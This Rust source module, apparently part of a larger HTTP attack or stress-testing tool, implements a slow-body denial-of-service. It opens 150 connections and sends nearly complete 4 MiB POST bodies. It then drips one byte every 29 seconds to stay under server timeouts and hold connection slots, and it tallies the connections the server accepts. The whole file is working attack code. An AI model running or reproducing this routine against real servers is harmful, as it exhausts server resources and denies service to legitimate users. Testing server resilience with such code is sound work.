//! Bodies that do not end.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};

use crate::Failure;
use crate::held::AbortOnDrop;
use crate::http::Target;
use crate::http::client::{connect, raw_post};
use crate::http::crowd::{Siege, Tally, crowd};
use crate::messages;

/// The longest body that servers accept by default.
const BODY: usize = 4 << 20;

/// Servers permit a pause of 30 s within a body.
const PAUSE: Duration = Duration::from_secs(29);

/// The time that a server has to refuse a body before the body counts as accepted.
const REFUSAL: Duration = Duration::from_millis(200);

/// Sends a body except its last 64 bytes on each connection, and then single bytes after pauses.
pub(super) async fn slow_bodies(target: Target) -> Result<Siege, Failure> {
    let body = bytes::Bytes::from(messages::text(BODY - 64));
    let head = raw_post(&target, &[], BODY, "");
    let attacker = |_, tally: Tally| {
        let (target, head, body) = (target.clone(), head.clone(), body.clone());
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&head).await?;
            stream.write_all(&body).await?;
            let is_refused = timeout(REFUSAL, stream.read_u8()).await.is_ok();
            let dripping = tokio::spawn(async move {
                loop {
                    sleep(PAUSE).await;
                    if stream.write_all(b"x").await.is_err() {
                        return;
                    }
                }
            });
            tally.add(!is_refused);
            Ok(AbortOnDrop(dripping))
        }
    };
    Ok(crowd(150, target.until, attacker).await)
}
